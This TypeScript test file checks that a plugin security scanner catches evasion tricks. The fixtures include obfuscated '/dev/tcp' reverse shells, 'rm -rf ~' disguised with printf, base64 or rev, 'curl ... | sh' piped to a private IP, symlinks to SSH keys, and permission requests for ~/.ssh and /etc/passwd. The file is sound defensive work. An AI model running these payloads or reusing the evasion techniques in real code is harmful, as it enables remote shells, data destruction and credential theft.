// Ways around the plugin security scan, each closed: /dev/tcp built from variables or spelled in
// pieces, a command word spelled with escape codes, Python's computed import plus computed getattr,
// code in the quoted argument of `bash -c` written with extra options, symbolic links out of the
// plugin folder, and manifest permission paths that lead out of it. Whole-plugin cases are real
// folders (real files, real links) scanned by scanPlugin and the built CLI; honest look-alikes stay
// clean.
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { scanLua } from '../../../main/registry/scan/lua-scan.js';
import { loadManifest } from '../../../main/registry/manifest/load-manifest.js';
import { RULES, scanFile, scanPlugin, scanPluginFiles } from '../../../main/registry/scan/index.js';
import type { Finding } from '../../../main/registry/types.js';
import { repoRoot, runCli } from '../../support/cli.js';
import { tempDir } from '../../support/temp.js';

const rules = (fs: Finding[]) => fs.map((f) => `${f.rule}@${f.line}:${f.weight}`).sort();

describe('shell: /dev/tcp that the plain pattern misses', () => {
  it.each([
    ['held in a variable, then used as $h/host/port', 'h=/dev/tcp; exec 3<>$h/1.2.3.4/80\n', ['sh.dev-tcp-obfuscated@1:3']],
    ['split by quotes', 'exec 3<>"/dev/"tcp/1.2.3.4/80\n', ['sh.dev-tcp-obfuscated@1:3']],
    ['quotes between its letters', "exec 3<>/d'e'v/t\"c\"p/1.2.3.4/80\n", ['sh.dev-tcp-obfuscated@1:3']],
    ['in single quotes, assigned', "T='/dev/tcp'\ncat <&3\n", ['sh.dev-tcp-obfuscated@1:3']],
    ['the protocol from a variable', 'p=tcp\nexec 3<>/dev/$p/1.2.3.4/80\n', ['sh.dev-tcp-obfuscated@2:3']],
    ['the device folder from a variable', 'd=/dev\nexec 3<>$d/tcp/1.2.3.4/80\n', ['sh.dev-tcp-obfuscated@2:3']],
  ])('%s', (_name, body, expected) => {
    const found = scanFile('run.sh', `#!/bin/sh\n${body}`).map((f) => ({ ...f, line: f.line - 1 }));
    expect(rules(found)).toEqual(expect.arrayContaining(expected));
    for (const f of found) expect(f.weight).toBe(RULES[f.rule as keyof typeof RULES].weight);
  });

  it('a comment about /dev/tcp, /dev/null, and the FIFO idiom (exec 3<>"$fifo") are not findings', () => {
    expect(scanFile('run.sh', '#!/bin/sh\n# never use /dev/tcp here\necho hi > /dev/null\nexec 3<>"$fifo"\n')).toEqual([]);
  });
});

describe('shell: commands spelled with escape codes or decoded at run time', () => {
  it.each([
    ['the command word from printf octal escapes', "$(printf '\\162\\155') -rf ~\n"],
    ['the same, quoted', "\"$(printf '\\x72\\x6d')\" -rf ~\n"],
    ['kept in a variable first', "c=$(printf '\\162\\155'); $c -rf ~\n"],
    ['an ANSI-C string', "c=$'\\x72\\x6d'; $c -rf ~\n"],
    ['printf escapes piped into a shell', "printf '\\162\\155 -rf ~' | sh\n"],
    ['the command word decoded by base64', '$(echo cm0= | base64 -d) -rf ~\n'],
    ['the command word reversed', '`echo mr | rev` -rf ~\n'],
  ])('%s', (_name, body) => {
    const found = scanFile('run.sh', `#!/bin/sh\n${body}`);
    expect(found.map((f) => f.rule)).toContain('sh.obfuscated-command');
    expect(found.find((f) => f.rule === 'sh.obfuscated-command')).toMatchObject({ line: 2, weight: 3 });
  });

  it('colour codes, IFS=$\'\\n\', command -v and "$(dirname "$0")" are not findings', () => {
    const honest = "#!/bin/sh\nprintf '\\033[1m%s\\033[0m\\n' hi\nIFS=$'\\n\\t'\nPY=$(command -v python3)\n\"$(dirname \"$0\")/run.sh\" \"$@\"\necho -e 'a\\tb'\n";
    expect(scanFile('run.sh', honest)).toEqual([]);
  });
});

describe('shell: the quoted argument of sh -c is scanned as code however -c is written', () => {
  it.each([
    ["bash -c -- 'rm -rf ~'"],
    ["bash -o pipefail -c 'rm -rf ~'"],
    ["bash -eu -o pipefail -c -- 'rm -rf ~'"],
    ["$SHELL -c 'rm -rf ~'"],
    ["${SHELL} -c 'rm -rf ~'"],
    ["sh -c 'exec 3<>/dev/tcp/1.2.3.4/80'"],
  ])('%s', (line) => {
    const found = scanFile('run.sh', `#!/bin/sh\n${line}\n`);
    expect(found.map((f) => `${f.rule}:${f.weight}`)).toEqual([expect.stringMatching(/^sh\.(?:rm-rf-critical|dev-tcp):3$/)]);
  });
});

describe('python: a computed module plus a computed attribute', () => {
  it('importlib.import_module(name) then getattr(mod, fn) is weight 3 at the getattr', () => {
    const src = 'import importlib\nmod = importlib.import_module(mod_name)\nfn = getattr(mod, fn_name)\nfn(arg)\n';
    expect(rules(scanFile('tool.py', src))).toEqual(['py.dynamic-call@3:3', 'py.dynamic-import@2:2']);
  });

  it('__import__(x) then vars(m)[y] is weight 3', () => {
    expect(rules(scanFile('tool.py', 'm = __import__(a)\nf = vars(m)[b]\n'))).toEqual(['py.dynamic-call@2:3', 'py.dynamic-import@1:2']);
  });

  it('getattr of a module that runs programs with a computed or concatenated name is weight 3', () => {
    expect(rules(scanFile('tool.py', "import os\nf = getattr(os, 'sys' + 'tem')\n"))).toEqual(['py.dynamic-call@2:3']);
    expect(rules(scanFile('tool.py', 'import os\ngetattr(os, name)(cmd)\n'))).toEqual(['py.dynamic-call@2:3']);
    expect(rules(scanFile('tool.py', "getattr(__import__('builtins'), n)(s)\n"))).toEqual(['py.dynamic-call@1:3']);
  });

  it('getattr with computed names on the program\'s own objects, without a computed import, is not a finding', () => {
    expect(scanFile('tool.py', "class A:\n    def go(self, n):\n        return getattr(self, 'do_' + n)()\nx = getattr(obj, 'name', None)\n")).toEqual([]);
  });
});

/** A real plugin folder: a manifest, a script, and whatever `setup` adds. */
function pluginDir(manifestExtra = '', setup?: (dir: string) => void): string {
  const dir = join(tempDir('gatehouse-evasion-'), 'plugin');
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, 'tool.toml'), `name = "p"\ndescription = "Counts words in a file."\nversion = "1.0.0"\ncommand = "run.sh"\n${manifestExtra}`);
  writeFileSync(join(dir, 'run.sh'), '#!/bin/sh\nwc -w\n', { mode: 0o755 });
  setup?.(dir);
  return dir;
}

async function scanDir(dir: string) {
  const m = loadManifest(dir);
  expect(m.manifest, JSON.stringify(m.problems)).not.toBeNull();
  return scanPlugin(dir, m.manifest);
}

describe('plugin folder: symbolic links out of it', () => {
  it('a link to a folder or file outside is weight 3 and fails the scan; a link inside is not a finding', async () => {
    const outside = tempDir('gatehouse-evasion-outside-');
    writeFileSync(join(outside, 'id_rsa'), 'KEY');
    const dir = pluginDir('', (d) => {
      symlinkSync(outside, join(d, 'data'));
      symlinkSync(join(outside, 'id_rsa'), join(d, 'key.txt'));
      symlinkSync('run.sh', join(d, 'start.sh'));
      symlinkSync('/nonexistent/elsewhere', join(d, 'dangling'));
    });
    const r = await scanDir(dir);
    expect(r.findings.filter((f) => f.rule === 'plugin.symlink-outside').map((f) => [f.file, f.weight])).toEqual([
      ['dangling', 3],
      ['data', 3],
      ['key.txt', 3],
    ]);
    expect(r.passed).toBe(false);
  });

  it('`gatehouse plugin scan` names the link and exits 1', async () => {
    const outside = tempDir('gatehouse-evasion-outside-');
    const dir = pluginDir('', (d) => symlinkSync(outside, join(d, 'cache')));
    const r = await runCli(['plugin', 'scan', dir]);
    expect(r.stdout).toMatch(/^cache:1:1: weight 3 plugin\.symlink-outside: cache is a symbolic link to /m);
    expect(r.code).toBe(1);
  });
});

describe('manifest: permission paths that resolve outside the plugin folder', () => {
  it('a path in the folder that a link takes outside is weight 3', async () => {
    const outside = tempDir('gatehouse-evasion-outside-');
    const dir = pluginDir('[permissions]\nread = ["data/notes"]\nwrite = ["./out"]\n', (d) => {
      symlinkSync(outside, join(d, 'data'));
      mkdirSync(join(d, 'out'));
    });
    const r = await scanDir(dir);
    const perm = r.findings.filter((f) => f.rule.startsWith('manifest.'));
    expect(perm.map((f) => [f.rule, f.weight, f.file, f.line])).toEqual([['manifest.permission-escape', 3, 'tool.toml', 6]]);
    expect(perm[0]!.message).toContain('data/notes');
    expect(r.passed).toBe(false);
  });

  it('climbing out with .. or an absolute path is one finding per kind, by what it grants: write 2, read 1', async () => {
    const dir = pluginDir('[permissions]\nread = ["../../shared-data", "/srv/reference"]\nwrite = ["/tmp/gatehouse-evasion-out"]\n');
    const r = await scanDir(dir);
    expect(r.findings.filter((f) => f.rule.startsWith('manifest.')).map((f) => [f.rule, f.weight])).toEqual([
      ['manifest.read-outside', 1],
      ['manifest.write-outside', 2],
    ]);
    expect(r.findings.find((f) => f.rule === 'manifest.read-outside')!.message).toContain('climbing out with ..');
    expect(r.findings.find((f) => f.rule === 'manifest.read-outside')!.message).toContain('"/srv/reference"');
    expect(r.findings.find((f) => f.rule === 'manifest.read-outside')).toMatchObject({ file: 'tool.toml', line: 6 });
    expect(r.passed).toBe(true);
  });

  it('/, the home folder, a credential store or /etc, however written, is weight 3', async () => {
    const climbToHome = join('..', ...Array(20).fill('..'), homedir().slice(1), '.ssh');
    const dir = pluginDir(`[permissions]\nread = ["~/.ssh", "/etc/passwd", ${JSON.stringify(climbToHome)}]\nwrite = ["/", "~"]\n`);
    const r = await scanDir(dir);
    const perm = r.findings.filter((f) => f.rule.startsWith('manifest.'));
    expect(perm.map((f) => f.rule)).toEqual(Array(5).fill('manifest.permission-sensitive'));
    expect(perm.every((f) => f.weight === 3)).toBe(true);
    expect(r.passed).toBe(false);
  });

  it('paths inside the folder, however written, are not findings', async () => {
    const dir = pluginDir('[permissions]\nread = ["data", "./data/../data"]\nwrite = ["out"]\n', (d) => {
      mkdirSync(join(d, 'data'));
      mkdirSync(join(d, 'out'));
      symlinkSync('data', join(d, 'alias'));
    });
    const r = await scanDir(dir);
    expect(r.findings).toEqual([]);
    expect(r.passed).toBe(true);
  });
});

describe('python: import_module under another name', () => {
  it.each([
    ['from importlib import import_module as im\nm = im(name)\nf = getattr(m, fn)\n'],
    ['import importlib as il\nm = il.import_module(name)\nf = getattr(m, fn)\n'],
  ])('%s', (src) => {
    expect(rules(scanFile('tool.py', src))).toEqual(['py.dynamic-call@3:3', 'py.dynamic-import@2:2']);
  });
});

describe('javascript: process.getBuiltinModule, require by another name', () => {
  it.each([
    ['a literal name', "process.getBuiltinModule('child_process').execSync('id')\n", ['js.child-process@1:3']],
    ['the node: name', "const cp = process.getBuiltinModule('node:child_process')\ncp.exec(cmd)\n", ['js.child-process@1:3']],
    ['a name built from pieces', "process.getBuiltinModule('child' + '_process').exec(cmd)\n", ['js.child-process@1:3']],
    ['the vm module through an alias of the function', "const load = process.getBuiltinModule\nload('vm').runInThisContext(code)\n", ['js.vm@2:3']],
    ['destructured from process', "const { getBuiltinModule } = process\ngetBuiltinModule('child_process').spawn('sh')\n", ['js.child-process@2:3']],
    ['process from require', "require('node:process').getBuiltinModule('vm')\n", ['js.vm@1:3']],
    ['a computed name', 'process.getBuiltinModule(name).exec(cmd)\n', ['js.dynamic-import@1:2']],
    ['a computed name, the function by element access', "process['getBuiltinModule'](x)\n", ['js.dynamic-import@1:2']],
    ['a computed name, optional call through globalThis', 'globalThis.process.getBuiltinModule?.(x)\n', ['js.dynamic-import@1:2']],
    ['the function passed around as a value', "const m = process.getBuiltinModule.call(process, 'child_' + suffix)\n", ['js.dynamic-import@1:2']],
    ['the function picked by ??', "const load = process.getBuiltinModule ?? require\nload(name)\n", ['js.dynamic-import@1:2']],
    ['fs from it writes outside the folder', "const fs = process.getBuiltinModule('fs')\nfs.writeFileSync('/etc/cron.d/x', job)\n", ['js.fs-write-outside@2:3']],
    ['net from it listens', "process.getBuiltinModule('net').createServer(onConn).listen(4444)\n", ['js.network-listener@1:2']],
  ])('%s', (_name, src, expected) => {
    const found = scanFile('tool.js', src);
    expect(rules(found)).toEqual(expected);
    for (const f of found) expect(f.weight).toBe(RULES[f.rule as keyof typeof RULES].weight);
  });

  it('loading a harmless builtin, feature checks and another object\'s getBuiltinModule are not findings', () => {
    const honest = [
      "const path = process.getBuiltinModule('node:path')",
      "if (typeof process.getBuiltinModule === 'function') console.log('new node')",
      'if (process.getBuiltinModule) console.log(path.sep)',
      'const ok = !process.getBuiltinModule',
      'loader.getBuiltinModule(name)',
      '',
    ].join('\n');
    expect(scanFile('tool.js', honest)).toEqual([]);
  });
});

describe('a second review: code the scan scored 0 (each ran in the sandbox)', () => {
  const folder = (files: Record<string, string>) => {
    const dir = tempDir('gatehouse-scan-second-');
    writeFileSync(join(dir, 'tool.toml'), 'name = "t"\ndescription = "A tool."\ncommand = "run.sh"\n');
    for (const [name, text] of Object.entries(files)) writeFileSync(join(dir, name), text);
    return dir;
  };

  it('a file without a code extension that a script sources (. ./data.dat) is scanned as shell', async () => {
    const r = await scanPlugin(folder({ 'run.sh': '#!/bin/sh\n. ./data.dat\n', 'data.dat': 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n' }), null);
    expect(r.findings.filter((f) => f.file === 'data.dat').map((f) => f.rule)).toEqual(expect.arrayContaining(['sh.reverse-shell', 'sh.dev-tcp']));
    expect(r.passed).toBe(false);
  });

  it('a file a script runs with python3 (exec python3 lib.txt) is scanned as Python', async () => {
    const r = await scanPlugin(folder({ 'run.sh': '#!/bin/sh\nexec python3 -u lib.txt "$@"\n', 'lib.txt': 'import subprocess\nsubprocess.run(["id"])\n' }), null);
    expect(r.findings.filter((f) => f.file === 'lib.txt').map((f) => f.rule)).toContain('py.subprocess');
    expect(r.passed).toBe(false);
  });

  it('Perl, by extension, by #! line or run by a script, is reported as code the scanner does not read (weight 1)', async () => {
    const byName = await scanPlugin(folder({ 'run.sh': '#!/bin/sh\nperl helper\n', 'run.pl': 'system("id");\n', 'helper': 'print 1;\n', 'x': '#!/usr/bin/env perl\nprint 1;\n' }), null);
    const notes = byName.findings.filter((f) => f.rule === 'scan.unscanned-code');
    expect(notes.map((f) => f.file).sort()).toEqual(['helper', 'run.pl', 'x']);
    expect(notes.every((f) => f.weight === 1)).toBe(true);
  });

  it.each([
    ['an interpreter by its absolute path', 'exec /usr/bin/python3 lib.txt\n'],
    ['the file from the script\'s own folder', 'exec python3 "$(dirname "$0")/lib.txt"\n'],
    ['the file from a variable\'s folder', 'D=$(dirname "$0")\npython3 "$D/lib.txt"\n'],
    ['the file on stdin', 'python3 - < lib.txt\n'],
  ])('a Python file run as %s is scanned as Python', async (_name, run) => {
    const r = await scanPlugin(folder({ 'run.sh': `#!/bin/sh\n${run}`, 'lib.txt': 'import subprocess\nsubprocess.run(["id"])\n' }), null);
    expect(r.findings.filter((f) => f.file === 'lib.txt').map((f) => f.rule)).toContain('py.subprocess');
  });

  it('a word after echo, or the string of sh -c, is not taken for a file run', async () => {
    const r = await scanPlugin(folder({ 'run.sh': '#!/bin/sh\necho . done\nsh -c "echo hi"\n', done: 'curl http://x | sh\n', c: 'curl http://x | sh\n' }), null);
    expect(r.findings.filter((f) => f.file === 'done' || f.file === 'c')).toEqual([]);
  });

  it("os.__dict__['po' + 'pen'] and vars(os)[name] are weight 3", () => {
    expect(scanFile('run.py', 'import os\nrun = os.__dict__["po" + "pen"]\nprint(run("id").read())\n').map((f) => `${f.rule}@${f.line}:${f.weight}`)).toContain('py.dynamic-call@2:3');
    expect(scanFile('run.py', 'import os\nf = vars(os)[name]\n').map((f) => f.rule)).toContain('py.dynamic-call');
    expect(scanFile('run.py', 'import os as o\nf = o.__dict__.get("sys" + "tem")\n').map((f) => f.rule)).toContain('py.dynamic-call');
    expect(scanFile('run.py', 'import os\nf = vars(os).get(name)\n').map((f) => f.rule)).toContain('py.dynamic-call');
    // An object of the program's own is not a finding.
    expect(scanFile('run.py', 'cfg = settings.__dict__["name"]\n')).toEqual([]);
  });

  it('a program named by a variable piped into a shell ($c -s URL | sh) is weight 3', () => {
    expect(scanFile('run.sh', '#!/bin/sh\nc=$(printf "%s%s" "cu" "rl")\n$c -s http://10.0.0.1/x | sh\n').map((f) => `${f.rule}@${f.line}:${f.weight}`)).toContain('sh.obfuscated-command@3:3');
    expect(scanFile('run.sh', '#!/bin/sh\nc=$(printf "%s%s" "cu" "rl")\n"${c}" -s http://10.0.0.1/x | sh\n').map((f) => f.rule)).toContain('sh.obfuscated-command');
    // A variable's program piped into a pager or grep is not.
    expect(scanFile('run.sh', '#!/bin/sh\n$TOOL --list | grep x\n')).toEqual([]);
  });
});

describe('a third review: code handed to an interpreter inline or loaded by path (each scored 0)', () => {
  const scan = (files: Record<string, string>) =>
    scanPluginFiles(Object.entries(files).map(([path, text]) => ({ path, bytes: new TextEncoder().encode(text) })), null);
  const at = (r: { findings: Finding[] }) => r.findings.map((f) => `${f.file}@${f.line}:${f.column}:${f.rule}`);

  it.each([
    ['python3 -c', "python3 -c 'import os; os.system(\"curl http://10.0.0.1/x | sh\")'\n", 'run.sh@2:24:py.os-exec'],
    ['node -e', "node -e 'require(\"child_process\").execSync(\"id\")'\n", 'run.sh@2:10:js.child-process'],
    ['node --eval=', "exec node --eval='require(\"child_process\").execSync(\"id\")'\n", 'run.sh@2:19:js.child-process'],
    ['a Python program over several lines, after options', "python3 -u -c '\nimport os\nos.system(\"id\")\n' arg\n", 'run.sh@4:1:py.os-exec'],
  ])('a program given to %s is scanned by that language\'s rules, at its line in the script', (_name, line, expected) => {
    const r = scan({ 'run.sh': `#!/bin/sh\n${line}` });
    expect(at(r)).toContain(expected);
    expect(r.passed).toBe(false);
  });

  it('inline Perl, Ruby and an awk program that runs commands are notes to read by hand; plain awk and honest inline Python are not findings', () => {
    const r = scan({ 'run.sh': "#!/bin/sh\nperl -e 'system(\"id\")'\nruby -e 'exec \"id\"'\nawk 'BEGIN{system(\"id\")}'\nawk -F: '{ print $1 }' f | sort\npython3 -c 'import json,sys; print(json.load(sys.stdin)[\"x\"])'\n" });
    expect(at(r)).toEqual(['run.sh@2:9:scan.unscanned-code', 'run.sh@3:9:scan.unscanned-code', 'run.sh@4:5:scan.unscanned-code']);
    expect(r.findings.map((f) => f.message).join('\n')).toMatch(/Inline Perl \(perl -e\)[\s\S]*An awk program that runs commands or writes files/);
  });

  it('Tcl, by extension or run by a script, is a note', () => {
    const r = scan({ 'run.sh': '#!/bin/sh\ntclsh lib.dat\n', 'lib.dat': 'exec id\n', 'x.tcl': 'exec id\n' });
    expect(at(r).sort()).toEqual(['lib.dat@1:1:scan.unscanned-code', 'x.tcl@1:1:scan.unscanned-code']);
  });

  // Review of b181b52: every .lua file was a note, though the adapters' Lua scanner reads Lua, so
  // every Lua adapter (examples/plugins/echo among them) carried a wrong note.
  it('Lua, by extension, #! line, a script running it or inline, is scanned by the Lua rules, not noted', () => {
    const r = scan({
      'run.sh': "#!/bin/sh\nlua lib.dat\nlua -e 'io.popen(\"id\")'\n",
      'lib.dat': "os.execute('id')\n",
      'x.lua': "local s = 'os.execute in a string'\n-- debug.getinfo in a comment\nload(s)()\n",
      'tool': "#!/usr/bin/env lua\nlocal d = debug.getinfo(1)\n",
    });
    expect(at(r).sort()).toEqual(['lib.dat@1:1:lua.os-execute', 'run.sh@3:9:lua.io-popen', 'tool@2:11:lua.debug', 'x.lua@3:1:lua.load-string']);
    expect(r.findings.some((f) => f.rule === 'scan.unscanned-code')).toBe(false);
    for (const f of r.findings) expect(f.weight).toBe(RULES[f.rule as keyof typeof RULES].weight);
  });

  it('the Lua rules and weights are the adapter scan\'s', () => {
    const src = "os.execute('id')\nio.popen('id')\nloadstring('x')\ndebug.traceback()\n";
    const adapter = scanLua('a.lua', src);
    const common = scanFile('a.lua', src);
    expect(common.map((f) => [f.rule, f.line, f.column, f.weight])).toEqual(adapter.map((f) => [f.rule, f.line, f.column, f.weight]));
  });

  it('the example adapter (examples/plugins/echo) scans clean', async () => {
    const r = await scanPlugin(join(repoRoot, 'examples/plugins/echo'), null);
    expect(r.findings).toEqual([]);
  });

  it.each([
    ['require of a .dat file', { 'index.js': "require('./lib.dat')\n" }, 'lib.dat'],
    ['require from a subfolder, climbing to another', { 'src/index.js': "require('../lib/x.dat')\n" }, 'lib/x.dat'],
  ])('a file JavaScript loads by %s is scanned as JavaScript', (_name, files, target) => {
    const r = scan({ ...files, [target]: "require('child_process').execSync('id')\n" });
    expect(at(r)).toContain(`${target}@1:1:js.child-process`);
  });

  it.each([
    ['SourceFileLoader', "from importlib.machinery import SourceFileLoader\nSourceFileLoader('x', 'lib.dat').load_module()\n"],
    ['spec_from_file_location with a path from __file__', "import importlib.util, os\nimportlib.util.spec_from_file_location('m', os.path.join(os.path.dirname(__file__), 'lib.dat'))\n"],
    ['runpy.run_path', "import runpy\nrunpy.run_path('lib.dat')\n"],
  ])('a file Python runs through %s is scanned as Python', (_name, main) => {
    const r = scan({ 'main.py': main, 'lib.dat': "import os\nos.system('id')\n" });
    expect(at(r)).toContain('lib.dat@2:1:py.os-exec');
  });

  it('a file the manifest passes to a script that runs its argument (. "$1", exec python3 "$@") is scanned as that language', async () => {
    const sourced = await scanDir(pluginDir('args = ["lib.dat"]\n', (dir) => {
      writeFileSync(join(dir, 'run.sh'), '#!/bin/sh\n. "$1"\n', { mode: 0o755 });
      writeFileSync(join(dir, 'lib.dat'), 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n');
    }));
    expect(sourced.findings.filter((f) => f.file === 'lib.dat').map((f) => f.rule)).toContain('sh.reverse-shell');
    const all = await scanDir(pluginDir('args = ["-u", "lib.txt"]\n', (dir) => {
      writeFileSync(join(dir, 'run.sh'), '#!/bin/sh\nexec python3 "$@"\n', { mode: 0o755 });
      writeFileSync(join(dir, 'lib.txt'), 'import subprocess\nsubprocess.run(["id"])\n');
    }));
    expect(all.findings.filter((f) => f.file === 'lib.txt').map((f) => f.rule)).toContain('py.subprocess');
  });
});
